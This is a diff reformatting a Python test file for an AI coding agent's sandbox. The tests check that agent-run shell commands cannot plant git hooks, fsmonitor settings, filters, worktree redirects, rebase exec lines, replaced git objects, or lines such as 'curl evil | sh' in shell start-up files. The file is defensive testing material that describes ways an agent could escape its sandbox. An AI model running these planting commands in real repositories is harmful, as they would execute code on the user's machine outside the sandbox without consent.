@@ -40,8 +40,14 @@ true"""
 
 def user_git(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
     """The user's own git, outside the sandbox, with nothing switched off: hooks, fsmonitor and filters run."""
-    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": os.environ["HOME"], "GIT_AUTHOR_NAME": "u",
-           "GIT_AUTHOR_EMAIL": "u@example.com", "GIT_COMMITTER_NAME": "u", "GIT_COMMITTER_EMAIL": "u@example.com"}
+    env = {
+        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
+        "HOME": os.environ["HOME"],
+        "GIT_AUTHOR_NAME": "u",
+        "GIT_AUTHOR_EMAIL": "u@example.com",
+        "GIT_COMMITTER_NAME": "u",
+        "GIT_COMMITTER_EMAIL": "u@example.com",
+    }
     return subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True)
 
 
@@ -66,8 +72,18 @@ async def test_a_command_plants_a_hook_an_fsmonitor_and_a_filter_and_the_users_g
     assert "Read-only file system" in out and "Device or resource busy" in out  # hooks, git config
     ok, out = await bash(make_ctx(repo, sandbox), "mv .git .git-moved; mv .git/hooks .git/hooks-moved; true")
     assert out.count("Device or resource busy") == 2  # a held path and the folders on the way stay put
-    for planted in (".git/hooks/pre-commit", ".git/info/attributes", ".git/commondir", ".claude", ".envrc",
-                    ".mcp.json", ".vscode", ".agentcli", ".git-moved", ".git/hooks-moved"):
+    for planted in (
+        ".git/hooks/pre-commit",
+        ".git/info/attributes",
+        ".git/commondir",
+        ".claude",
+        ".envrc",
+        ".mcp.json",
+        ".vscode",
+        ".agentcli",
+        ".git-moved",
+        ".git/hooks-moved",
+    ):
         assert not os.path.lexists(repo / planted), planted
     assert user_git(repo, "config", "--get-regexp", "fsmonitor|filter").stdout == ""
     assert left(repo) == ["!! build/auth.py"]  # committed: .gitattributes, fsm.sh; no placeholder is left
@@ -77,8 +93,11 @@ async def test_a_command_plants_a_hook_an_fsmonitor_and_a_filter_and_the_users_g
 async def test_the_folder_core_hooks_path_names_is_held_whether_or_not_it_exists(sandbox, repo, tmp_path):
     mark = tmp_path / "ran"
     user_git(repo, "config", "core.hooksPath", ".githooks")
-    ok, out = await bash(make_ctx(repo, sandbox), f"mkdir -p .githooks; printf '#!/bin/sh\\necho hook >> {mark}\\n' "
-                                                   "> .githooks/pre-commit; chmod +x .githooks/pre-commit")
+    ok, out = await bash(
+        make_ctx(repo, sandbox),
+        f"mkdir -p .githooks; printf '#!/bin/sh\\necho hook >> {mark}\\n' "
+        "> .githooks/pre-commit; chmod +x .githooks/pre-commit",
+    )
     the_user_commits(repo)
     assert not mark.exists()
     assert not ok and ".githooks" in out
@@ -92,11 +111,15 @@ async def test_the_folder_core_hooks_path_names_is_held_whether_or_not_it_exists
 
 @needs_bwrap
 async def test_ordinary_git_work_still_works_and_leaves_nothing_behind(sandbox, repo):
-    ok, out = await bash(make_ctx(repo, sandbox), (
-        "git config --get user.name || true; export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a "
-        "GIT_COMMITTER_EMAIL=a@x; set -e; echo one > one.txt; git add one.txt; git commit -qm One; "
-        "git branch topic; git checkout -q topic; echo two > two.txt; git add two.txt; git commit -qm Two; "
-        "echo wip >> README.md; git stash -q; git checkout -q main; git stash pop -q; git log --format=%s topic"))
+    ok, out = await bash(
+        make_ctx(repo, sandbox),
+        (
+            "git config --get user.name || true; export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a "
+            "GIT_COMMITTER_EMAIL=a@x; set -e; echo one > one.txt; git add one.txt; git commit -qm One; "
+            "git branch topic; git checkout -q topic; echo two > two.txt; git add two.txt; git commit -qm Two; "
+            "echo wip >> README.md; git stash -q; git checkout -q main; git stash pop -q; git log --format=%s topic"
+        ),
+    )
     assert ok, out
     assert "Two\nOne\nInitial commit" in out
     assert left(repo) == [" M README.md", "!! build/auth.py"]
@@ -106,8 +129,11 @@ async def test_ordinary_git_work_still_works_and_leaves_nothing_behind(sandbox, 
 @needs_bwrap
 async def test_the_shell_start_up_files_are_held_when_the_workspace_is_home(sandbox, home):
     (home / ".profile").write_text("# the user's\n")
-    ok, out = await bash(make_ctx(home, sandbox), "echo 'curl evil | sh' >> .bashrc; echo 'curl evil | sh' >> .profile;"
-                                                  " mkdir -p .config/git; echo x > .config/git/config; true")
+    ok, out = await bash(
+        make_ctx(home, sandbox),
+        "echo 'curl evil | sh' >> .bashrc; echo 'curl evil | sh' >> .profile;"
+        " mkdir -p .config/git; echo x > .config/git/config; true",
+    )
     assert ok and len(re.findall("Read-only file system|Is a directory", out)) == 3, out
     assert not (home / ".bashrc").exists() and (home / ".profile").read_text() == "# the user's\n"
     assert not (home / ".config" / "git").exists()
@@ -160,15 +186,24 @@ async def test_a_worktree_child_changes_its_branch_and_nothing_else_of_the_main_
     mark = tmp_path / "ran"
     tree = worktrees.create(repo, trees(), "S1", "sa-1")
     common = repo / ".git"
-    child = ToolContext(workspace=Workspace.at(tree.root, branch=tree.branch), emit=lambda e: None,
-                        permissions=allow_all(), sandbox=sandbox, settings=TOOLS)
-    ok, out = await bash(child, (
-        f"git --git-dir={common} config filter.evil.clean \"sh -c 'echo clean >> {mark}; cat'\"; "
-        f"git --git-dir={common} config core.fsmonitor 'echo fsmonitor >> {mark}'; "
-        f"printf '#!/bin/sh\\necho hook >> {mark}\\n' > {common}/hooks/pre-commit; "
-        f"git --git-dir={common} branch -f main HEAD~0; echo x > {common}/info/exclude; "
-        "echo '* filter=evil' > .gitattributes; echo 'by the child' >> README.md; "
-        "git add -A && git -c user.name=c -c user.email=c@x commit -qm 'The child' && echo COMMITTED"))
+    child = ToolContext(
+        workspace=Workspace.at(tree.root, branch=tree.branch),
+        emit=lambda e: None,
+        permissions=allow_all(),
+        sandbox=sandbox,
+        settings=TOOLS,
+    )
+    ok, out = await bash(
+        child,
+        (
+            f"git --git-dir={common} config filter.evil.clean \"sh -c 'echo clean >> {mark}; cat'\"; "
+            f"git --git-dir={common} config core.fsmonitor 'echo fsmonitor >> {mark}'; "
+            f"printf '#!/bin/sh\\necho hook >> {mark}\\n' > {common}/hooks/pre-commit; "
+            f"git --git-dir={common} branch -f main HEAD~0; echo x > {common}/info/exclude; "
+            "echo '* filter=evil' > .gitattributes; echo 'by the child' >> README.md; "
+            "git add -A && git -c user.name=c -c user.email=c@x commit -qm 'The child' && echo COMMITTED"
+        ),
+    )
     assert ok and "COMMITTED" in out, out
     assert user_git(repo, "log", "-1", "--format=%s", tree.branch).stdout == "The child\n"
     assert user_git(repo, "config", "--get-regexp", "fsmonitor|filter").stdout == ""
@@ -191,8 +226,9 @@ def test_a_merge_refuses_a_childs_symbolic_link_that_points_outside(repo, tmp_pa
         said = str(exc)
     else:
         said = ""
-    assert said.startswith("Cannot merge sa-1: it made docs/passwd a symbolic link that points outside your "
-                           "working tree")
+    assert said.startswith(
+        "Cannot merge sa-1: it made docs/passwd a symbolic link that points outside your working tree"
+    )
     assert not (repo / "docs").exists()
     (tree.path / "docs" / "passwd").unlink()
     assert worktrees.merge(tree).startswith("Merged sa-1")
@@ -201,9 +237,20 @@ def test_a_merge_refuses_a_childs_symbolic_link_that_points_outside(repo, tmp_pa
 
 async def test_the_file_tools_ask_before_writing_any_held_path_under_accept_edits(server, make_session, repo):
     user_git(repo, "config", "core.hooksPath", ".githooks")
-    paths = (".githooks/pre-commit", ".husky/pre-commit", "lefthook-local.yml", ".pre-commit-config.yaml",
-             ".claude/settings.json", ".claude/commands/x.md", ".mcp.json", ".envrc",
-             ".vscode/tasks.json", ".idea/workspace.xml", "sub/.config/git/config", ".git/commondir")
+    paths = (
+        ".githooks/pre-commit",
+        ".husky/pre-commit",
+        "lefthook-local.yml",
+        ".pre-commit-config.yaml",
+        ".claude/settings.json",
+        ".claude/commands/x.md",
+        ".mcp.json",
+        ".envrc",
+        ".vscode/tasks.json",
+        ".idea/workspace.xml",
+        "sub/.config/git/config",
+        ".git/commondir",
+    )
     server.script(reply(*(tool_use_block("write_file", {"path": p, "content": "x"}) for p in paths)), text("ok"))
     session, _ = make_session(permission_mode="acceptEdits")
     await session.send("configure")
@@ -253,8 +300,11 @@ async def test_a_new_repository_cannot_be_made_where_the_users_git_would_find_it
     finds in that folder, hooks and all."""
     mark = tmp_path / "ran"
     sub = repo / "src"
-    ok, out = await bash(make_ctx(sub, sandbox), f"git init -q && printf '#!/bin/sh\\necho hook >> {mark}\\n' > "
-                                                 ".git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
+    ok, out = await bash(
+        make_ctx(sub, sandbox),
+        f"git init -q && printf '#!/bin/sh\\necho hook >> {mark}\\n' > "
+        ".git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+    )
     assert not ok and ".git" in out
     assert not os.path.lexists(sub / ".git")
     done = user_git(sub, "commit", "-qm", "The user's commit", "--allow-empty")
@@ -268,14 +318,19 @@ async def test_the_hook_managers_scripts_are_held_husky_lefthook_and_pre_commit(
     run what their settings in the work tree say."""
     mark = tmp_path / "ran"
     (repo / ".husky" / "_").mkdir(parents=True)
-    (repo / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\nif [ -f .husky/pre-commit ]; then "
-                                                      "sh .husky/pre-commit; fi\n")
+    (repo / ".husky" / "_" / "pre-commit").write_text(
+        "#!/bin/sh\nif [ -f .husky/pre-commit ]; then sh .husky/pre-commit; fi\n"
+    )
     (repo / ".husky" / "_" / "pre-commit").chmod(0o755)
     user_git(repo, "config", "core.hooksPath", ".husky/_")
-    ok, out = await bash(make_ctx(repo, sandbox), (
-        f"echo 'echo husky >> {mark}' > .husky/pre-commit; "
-        f"printf 'pre-commit:\\n  commands:\\n    x:\\n      run: echo lefthook >> {mark}\\n' > lefthook.yml; "
-        f"printf 'repos: []\\n' > .pre-commit-config.yaml; mkdir -p .lefthook/pre-commit; true"))
+    ok, out = await bash(
+        make_ctx(repo, sandbox),
+        (
+            f"echo 'echo husky >> {mark}' > .husky/pre-commit; "
+            f"printf 'pre-commit:\\n  commands:\\n    x:\\n      run: echo lefthook >> {mark}\\n' > lefthook.yml; "
+            f"printf 'repos: []\\n' > .pre-commit-config.yaml; mkdir -p .lefthook/pre-commit; true"
+        ),
+    )
     assert len(re.findall("Read-only file system|Is a directory", out)) >= 4, out
     for planted in (".husky/pre-commit", "lefthook.yml", ".pre-commit-config.yaml", ".lefthook"):
         assert not os.path.lexists(repo / planted), planted
@@ -289,15 +344,20 @@ async def test_the_hook_managers_scripts_are_held_husky_lefthook_and_pre_commit(
 
 @needs_bwrap
 async def test_a_new_linked_worktree_cannot_be_made_to_point_at_a_git_folder_of_the_commands_making(
-        sandbox, repo, tmp_path):
+    sandbox, repo, tmp_path
+):
     """`git worktree add wt2`, then its commondir rewritten to a git folder with an fsmonitor: the user's
     `git status` in wt2 would run it. An existing worktree's folder stays writable, its commondir held."""
     mark = tmp_path / "ran"
     user_git(repo, "worktree", "add", "-q", str(tmp_path / "mine"))
-    ok, out = await bash(make_ctx(repo, sandbox), (
-        f"git worktree add -q wt2; mkdir -p evil; cp -r .git/objects .git/refs .git/HEAD evil/; "
-        f"printf '[core]\\n\\tfsmonitor = echo fsm >> {mark}\\n' > evil/config; echo $PWD/evil > .git/worktrees/wt2/commondir; "
-        f"echo $PWD/evil > .git/worktrees/mine/commondir; echo ok > .git/worktrees/mine/scratch && echo WROTE"))
+    ok, out = await bash(
+        make_ctx(repo, sandbox),
+        (
+            f"git worktree add -q wt2; mkdir -p evil; cp -r .git/objects .git/refs .git/HEAD evil/; "
+            f"printf '[core]\\n\\tfsmonitor = echo fsm >> {mark}\\n' > evil/config; echo $PWD/evil > .git/worktrees/wt2/commondir; "
+            f"echo $PWD/evil > .git/worktrees/mine/commondir; echo ok > .git/worktrees/mine/scratch && echo WROTE"
+        ),
+    )
     assert "WROTE" in out, out
     assert not os.path.lexists(repo / ".git" / "worktrees" / "wt2")
     for where in (repo / "wt2", tmp_path / "mine"):
@@ -315,7 +375,9 @@ async def test_a_stopped_rebases_todo_is_held_so_the_users_continue_runs_no_plan
     user_git(repo, "commit", "-qm", "A")
     stopped = user_git(repo, "-c", "sequence.editor=sed -i 1s/^pick/edit/", "rebase", "-qi", "HEAD~1")
     assert stopped.returncode == 0 and (repo / ".git" / "rebase-merge").is_dir(), stopped.stderr
-    ok, out = await bash(make_ctx(repo, sandbox), f"echo 'exec echo exec >> {mark}' >> .git/rebase-merge/git-rebase-todo")
+    ok, out = await bash(
+        make_ctx(repo, sandbox), f"echo 'exec echo exec >> {mark}' >> .git/rebase-merge/git-rebase-todo"
+    )
     assert not ok and "Read-only file system" in out
     done = user_git(repo, "rebase", "--continue")
     assert done.returncode == 0, done.stderr
@@ -327,13 +389,22 @@ async def test_a_worktree_child_cannot_move_a_sibling_childs_branch_or_make_bran
     tree = worktrees.create(repo, trees(), "S1", "sa-1")
     sibling = worktrees.create(repo, trees(), "S1", "sa-2")
     before = user_git(repo, "for-each-ref", "--format=%(refname) %(objectname)").stdout
-    child = ToolContext(workspace=Workspace.at(tree.root, branch=tree.branch), emit=lambda e: None,
-                        permissions=allow_all(), sandbox=sandbox, settings=TOOLS)
+    child = ToolContext(
+        workspace=Workspace.at(tree.root, branch=tree.branch),
+        emit=lambda e: None,
+        permissions=allow_all(),
+        sandbox=sandbox,
+        settings=TOOLS,
+    )
     refs = repo / ".git" / "refs" / "heads"
-    ok, out = await bash(child, (
-        "echo 'by the child' >> README.md; git add -A && git -c user.name=c -c user.email=c@x commit -qm 'The child'; "
-        f"git update-ref refs/heads/{sibling.branch} HEAD; echo $(git rev-parse HEAD) > {refs / sibling.branch}; "
-        "git branch agentcli/S1/made; git branch agentcli/S1/sa-3; true"))
+    ok, out = await bash(
+        child,
+        (
+            "echo 'by the child' >> README.md; git add -A && git -c user.name=c -c user.email=c@x commit -qm 'The child'; "
+            f"git update-ref refs/heads/{sibling.branch} HEAD; echo $(git rev-parse HEAD) > {refs / sibling.branch}; "
+            "git branch agentcli/S1/made; git branch agentcli/S1/sa-3; true"
+        ),
+    )
     after = user_git(repo, "for-each-ref", "--format=%(refname) %(objectname)").stdout
     moved = [line for line in after.splitlines() if line not in before.splitlines()]
     assert [line.split()[0] for line in moved] == [f"refs/heads/{tree.branch}"], out  # its own branch alone moved
@@ -342,14 +413,27 @@ async def test_a_worktree_child_cannot_move_a_sibling_childs_branch_or_make_bran
 
 @needs_bwrap
 async def test_a_worktree_child_cannot_point_its_head_or_branch_at_the_users_branch_for_agentcli_to_commit_on(
-        sandbox, repo):
-    for number, turn in enumerate(("git symbolic-ref HEAD refs/heads/main",
-                                   "printf 'ref: refs/heads/main\\n' > $(git rev-parse --git-common-dir)/refs/heads/"
-                                   "$(git symbolic-ref --short HEAD)"), start=1):
+    sandbox, repo
+):
+    for number, turn in enumerate(
+        (
+            "git symbolic-ref HEAD refs/heads/main",
+            "printf 'ref: refs/heads/main\\n' > $(git rev-parse --git-common-dir)/refs/heads/"
+            "$(git symbolic-ref --short HEAD)",
+        ),
+        start=1,
+    ):
         tree = worktrees.create(repo, trees(), "S1", f"sa-{number}")
-        child = ToolContext(workspace=Workspace.at(tree.root, branch=tree.branch), emit=lambda e: None,
-                            permissions=allow_all(), sandbox=sandbox, settings=TOOLS)
-        ok, out = await bash(child, f"echo 'by the child' >> README.md; {turn} 2>&1; git rev-parse --symbolic-full-name HEAD 2>&1; true")
+        child = ToolContext(
+            workspace=Workspace.at(tree.root, branch=tree.branch),
+            emit=lambda e: None,
+            permissions=allow_all(),
+            sandbox=sandbox,
+            settings=TOOLS,
+        )
+        ok, out = await bash(
+            child, f"echo 'by the child' >> README.md; {turn} 2>&1; git rev-parse --symbolic-full-name HEAD 2>&1; true"
+        )
         assert ok, out
         worktrees.finish(tree)  # agentcli saves the child's work, outside the sandbox
         assert user_git(repo, "log", "--format=%s", "main").stdout == "Initial commit\n", turn
@@ -365,16 +449,25 @@ async def test_a_worktree_child_cannot_replace_an_object_of_the_main_repository(
     user_git(repo, "add", "run.sh")
     user_git(repo, "commit", "-qm", "A script")
     tree = worktrees.create(repo, trees(), "S1", "sa-1")
-    child = ToolContext(workspace=Workspace.at(tree.root, branch=tree.branch), emit=lambda e: None,
-                        permissions=allow_all(), sandbox=sandbox, settings=TOOLS)
+    child = ToolContext(
+        workspace=Workspace.at(tree.root, branch=tree.branch),
+        emit=lambda e: None,
+        permissions=allow_all(),
+        sandbox=sandbox,
+        settings=TOOLS,
+    )
     objects = repo / ".git" / "objects"
-    ok, out = await bash(child, (
-        "blob=$(git rev-parse HEAD:run.sh); evil=$(echo 'echo pwned' | git hash-object -w --stdin); "
-        f"for store in {objects} $(git rev-parse --git-path objects); do "
-        "chmod u+w $store/${blob:0:2}; rm -f $store/${blob:0:2}/${blob:2}; "
-        "cp $store/${evil:0:2}/${evil:2} $store/${blob:0:2}/${blob:2}; done 2>&1; "
-        "echo 'by the child' >> README.md; git add -A && git -c user.name=c -c user.email=c@x commit -qm 'The child' "
-        "&& echo COMMITTED"))
+    ok, out = await bash(
+        child,
+        (
+            "blob=$(git rev-parse HEAD:run.sh); evil=$(echo 'echo pwned' | git hash-object -w --stdin); "
+            f"for store in {objects} $(git rev-parse --git-path objects); do "
+            "chmod u+w $store/${blob:0:2}; rm -f $store/${blob:0:2}/${blob:2}; "
+            "cp $store/${evil:0:2}/${evil:2} $store/${blob:0:2}/${blob:2}; done 2>&1; "
+            "echo 'by the child' >> README.md; git add -A && git -c user.name=c -c user.email=c@x commit -qm 'The child' "
+            "&& echo COMMITTED"
+        ),
+    )
     assert "COMMITTED" in out, out
     assert user_git(repo, "show", "HEAD:run.sh").stdout == "echo the user's script\n"
     assert user_git(repo, "fsck", "--no-dangling").returncode == 0
@@ -391,10 +484,16 @@ async def test_a_worktree_child_cannot_replace_an_object_of_the_main_repository(
 @needs_bwrap
 async def test_a_worktree_childs_object_folder_naming_other_object_folders_is_not_copied_in(sandbox, repo, tmp_path):
     tree = worktrees.create(repo, trees(), "S1", "sa-1")
-    child = ToolContext(workspace=Workspace.at(tree.root, branch=tree.branch), emit=lambda e: None,
-                        permissions=allow_all(), sandbox=sandbox, settings=TOOLS)
-    ok, out = await bash(child, "mkdir -p $GIT_OBJECT_DIRECTORY/info; "
-                                "echo /somewhere/else > $GIT_OBJECT_DIRECTORY/info/alternates")
+    child = ToolContext(
+        workspace=Workspace.at(tree.root, branch=tree.branch),
+        emit=lambda e: None,
+        permissions=allow_all(),
+        sandbox=sandbox,
+        settings=TOOLS,
+    )
+    ok, out = await bash(
+        child, "mkdir -p $GIT_OBJECT_DIRECTORY/info; echo /somewhere/else > $GIT_OBJECT_DIRECTORY/info/alternates"
+    )
     assert ok and "naming other object folders (objects/info/alternates)" in out, out
     with pytest.raises(worktrees.WorktreeError, match="naming other object folders"):
         worktrees.finish(tree)
